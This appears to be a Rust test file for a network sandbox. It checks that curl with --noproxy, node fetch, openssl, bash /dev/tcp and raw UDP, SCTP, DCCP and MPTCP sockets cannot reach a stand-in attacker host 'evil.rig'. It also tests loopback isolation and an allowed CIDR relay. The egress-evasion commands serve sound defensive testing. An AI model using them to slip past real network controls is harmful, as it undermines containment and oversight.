//! H: not taking part. Clients that ignore every convention still have no way but ours.

use super::client::{assert_answer, attack};
use crate::support::world::{OPAQUE, World};

/// H80: raw sockets and clients that ignore proxy variables.
#[test]
fn h80_ignoring_conventions() {
    World::each(|world| {
        let run = world.run().allow("allowed.rig");
        let outcome = run.bash(&format!(
            "
quiet=\"--silent --noproxy * --max-time 30\"
set -f
curl $quiet --insecure --connect-to evil.rig:443:{evil}:443 https://evil.rig/; echo curl: $?
curl $quiet http://{evil}/; echo address: $?
node -e \"fetch('http://evil.rig/').then(r => console.log('node: ' + r.status), e => console.log('node: refused'))\"
openssl s_client -connect {evil}:443 -servername evil.rig < /dev/null 2>&1 | grep -c \"rig's root\"
exec 3<> /dev/tcp/{evil}/9999 && echo opaque >&3 && read -t 20 -r line <&3; echo bash: $?",
            evil = world.evil.address
        ));
        // An explained denial is an answer with a body; what may not come is the origin's.
        assert!(!outcome.stdout.contains("\"method\"") && !outcome.stdout.contains("bash: 0"), "{outcome:#?}");
        outcome.assert_denied("no-rule", &[("name", "evil.rig")]);
        world.evil.assert_untouched();
    });
}

/// H81: any other transport, any other port.
#[test]
fn h81_other_transports() {
    World::each(|world| {
        let outcome = attack(
            world,
            world.run().allow("allowed.rig"),
            "
def datagram(address, port, protocol=0):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, protocol) as s:
        s.settimeout(3 if protocol else 20)
        s.connect((address, port))
        s.send(b'data')
        s.recv(1)
for port in (80, 123, 500, 3478, 9999):
    attempt(f'udp {port}', lambda: datagram(EVIL, port))
attempt('sctp', lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).connect((EVIL, 80)))
attempt('dccp', lambda: socket.socket(socket.AF_INET, 6, 33).connect((EVIL, 80)))
attempt('udp-lite', lambda: datagram(EVIL, 80, 136))
attempt('mptcp', lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262).connect((EVIL, 9999)))
def fast_open():
    s = socket.socket()
    s.sendto(request('evil.rig'), 0x20000000, (EVIL, 80))
    return first_line(drain(s))
attempt('fast open', fast_open)
",
        );
        for port in [80, 123, 500, 3478, 9999] {
            assert_answer(&outcome, &format!("udp {port}"), &["refused", "EHOSTUNREACH", "ENETUNREACH", "EPERM"]);
        }
        // It is the sandbox's own, like every address: nobody is there, and nobody says so.
        assert_answer(&outcome, "udp-lite", &["timeout", "refused", "EPROTONOSUPPORT"]);
        assert_answer(&outcome, "fast open", &["HTTP/1.1 403", "refused", "EOPNOTSUPP"]);
        world.evil.assert_untouched();
    });
}

/// H83: loopback inside is the sandbox's own, and so is what the sandbox itself serves there.
#[test]
fn h83_loopback_is_the_sandboxs_own() {
    World::each(|world| {
        let host = match world.wide {
            Some(_) => "80".to_owned(),
            None => world.evil.http.address.port().to_string(),
        };
        let outcome = attack(
            world,
            world.run().options(["--mode", "allow-all"]),
            &format!(
                "tcp('host', '127.0.0.1', {host}, request('evil.rig'))
own = socket.create_server(('127.0.0.1', 0))
own.settimeout(20)
client = socket.create_connection(own.getsockname())
served, _ = own.accept()
served.sendall(b'own')
print('own:', client.recv(3).decode())"
            ),
        );
        assert_answer(&outcome, "host", &["refused", "ECONNREFUSED"]);
        assert_answer(&outcome, "own", &["own"]);
        world.evil.assert_untouched();
        if let Some(wide) = &world.wide {
            wide.host.assert_untouched();
        }
    });
}

/// What a CIDR opens is relayed as it is, and only that: the positive side of the tests above.
#[test]
fn an_allowed_cidr_is_relayed_whatever_is_spoken() {
    World::each_wide(|world| {
        let run = world.run().options(["--allow-cidr", &format!("{OPAQUE}/32")]);
        let outcome = attack(
            world,
            run,
            &format!(
                "def chat():
    with dial('{OPAQUE}', 5432) as s:
        hello = drain_exactly(s, 6)
        s.sendall(b'\\x00\\xffecho')
        return hello + drain_exactly(s, 6)
attempt('chat', chat)
tcp('other', EVIL, 5432, b'\\x00opaque')"
            ),
        );
        assert_answer(&outcome, "chat", &["b'hello\\n\\x00\\xffecho'"]);
        assert_answer(&outcome, "other", &["refused"]);
        outcome.assert_allowed(&[("route", "relay"), ("address", OPAQUE)]);
    });
}
